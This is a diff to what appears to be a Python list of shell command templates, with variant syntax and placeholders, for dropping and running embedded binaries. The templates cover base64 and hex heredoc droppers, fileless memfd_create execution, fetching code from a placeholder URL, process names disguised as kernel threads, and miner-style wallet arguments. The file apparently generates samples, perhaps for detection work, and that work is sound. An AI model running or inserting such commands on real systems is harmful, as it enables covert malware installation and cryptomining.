@@ -73,11 +73,11 @@ SESSION = [
 
 # Programs that a script carries within itself, and code that never touches a disk.
 EMBEDDED = [
-    "base64 ‹-d¦--decode¦-di› > {file} <<‹EOF¦'E'¦_›\n{elf}\n‹EOF¦E¦_›\nchmod ‹+x¦755¦777› {file}‹; ¦ && ›{file} ‹&¦-d¦›",
+    "base64 ‹-d¦--decode¦-di› > {file} <<‹EOF¦'E'¦_›\n{elflines}\n‹EOF¦E¦_›\nchmod ‹+x¦755¦777› {file}‹; ¦ && ›{file} ‹&¦-d¦›",
     'echo ‹-n ¦›"{elf}" | base64 ‹-d¦--decode› ‹>¦| tee› {file} ‹>/dev/null ¦›&& chmod ‹u+x¦700¦+x› {file} && ‹nohup ¦›{file}‹; rm -f {file}¦ &¦›',
     '‹printf \'{elfhex}\'¦echo -ne \'{elfhex}\'¦echo -en "{elfhex}"› ‹>¦>>› {file}‹; ¦ && ›chmod ‹777¦+x› {file}‹; {file}¦ && {file} &¦; {file} {plain}›',
     '{var}={elfgz}\n‹echo ${var}¦printf %s "${var}"› | base64 -d | ‹gunzip¦zcat¦gzip -d› > {file}; chmod +x {file}; ‹{file} &¦(exec -a \'[kthreadd]\' {file} &)¦setsid {file} >/dev/null 2>&1›',
-    "cat <<'E' | ‹base64 -d | gunzip ¦base64 -d¦xxd -r -p›> ‹/dev/shm/{name}¦{file}›\n{elfgz}\nE\nchmod 700 ‹/dev/shm/{name}¦{file}›; ‹/dev/shm/{name}¦{file}› ‹-o {host}:{port} -u {wallet} -p x¦{host} {port}¦›",
+    "cat <<'E' | ‹base64 -d | gunzip ¦base64 -d¦xxd -r -p›> ‹/dev/shm/{name}¦{file}›\n{elfgzlines}\nE\nchmod 700 ‹/dev/shm/{name}¦{file}›; ‹/dev/shm/{name}¦{file}› ‹-o {host}:{port} -u {wallet} -p x¦{host} {port}¦›",
     'python3 -c "import ctypes,os,base64;f=ctypes.CDLL(None).memfd_create(b\'‹{plain}¦¦kworker›\',1);os.write(f,‹base64.b64decode(\'{elf}\')¦__import__(\'urllib.request\').request.urlopen(\'{url}\').read()›);os.execv(\'/proc/self/fd/%d\'%f,[\'‹[kworker/0:1]¦{plain}›\'])" ‹&¦›',
     'perl -e \'$f=syscall(319,my $n="{plain}",1);open(my $h,">&=".$f);‹print $h `curl -s {url}`;¦binmode $h;print $h `base64 -d <<< {elf}`;›exec {"/proc/$$/fd/$f"} "‹[kworker/u8:0]¦{plain}›"\'',
     "‹curl -s {url}¦wget -qO- {url}› | ‹base64 -d | ¦gunzip | ¦›dd of=/proc/self/mem bs=1 seek=$(‹awk '/vdso/{print $1}'¦cat› /proc/self/‹maps¦syscall›) conv=notrunc",
@@ -92,4 +92,11 @@ EMBEDDED = [
     'awk \'BEGIN{printf "{elfhex}"}\' > {file}; chmod 777 {file}; {file}',
     "uudecode ‹-o {file}¦-p > {file}› <<'E'\nbegin 755 {plain}\nM{b}\nend\nE\n‹chmod +x {file}; ¦›{file} &",
     'for i in ‹7f 45 4c 46 02 01 01 00¦127 69 76 70›; do printf "\\\\x$i" >> {file}; done; {dl} {url} >> {file}; chmod +x {file}; {file}',
+    '{var}=‹$(mktemp)¦`mktemp`¦/dev/shm/{name}›\ncat > ${var} <<‹EOF¦PAYLOAD¦EOFBIN›\n{elfgzlines}',
+    '{var}=‹`mktemp`¦$(mktemp -p /dev/shm)›\ncat > ${var} << BINARY\n{elfgzlines}\nBINARY\n‹cat ${var} | ¦›base64 ‹-d¦--decode› ‹${var} ¦›| ‹zcat¦gunzip› > {file}; ‹rm -f ${var}; ¦›chmod +x {file}; nohup {file} >/dev/null 2>&1 &',
+    "cat > {file}.b64 <<'E'\n{elflines}\nE\nbase64 -d {file}.b64 > {file}; chmod 755 {file}; rm -f {file}.b64; ‹{file}¦setsid {file} &¦exec {file}›",
+    'python3 - <<\'E\'\nimport base64, os\nd = base64.b64decode("""\n{elflines}\n""")\nopen(\'{file}\', \'wb\').write(d); os.chmod(\'{file}\', 0o755); os.‹system(\'{file} &\')¦execv(\'{file}\', [\'[kworker/0:{n}]\'])›\nE',
+    "uudecode -o ‹/dev/stdout <<'E' | gunzip > {file}¦{file} <<'E'›\nbegin-base64 755 {name}\n{elfgzlines}\n====\nE\nchmod 755 {file}; {file} &",
+    "openssl enc -base64 -d <<'X' | ‹tee {file} >/dev/null¦dd of={file} 2>/dev/null›\n{elflines}\nX\n(cd ‹/¦{tmp}›; chmod 700 {file}; {file}) >/dev/null 2>&1 &",
+    "exec 3<<'E'\n{elfgzlines}\nE\nbase64 -d <&3 | gzip -dc > {file}; chmod u+x {file} && {file} ‹-d¦--daemonize¦&›",
 ]
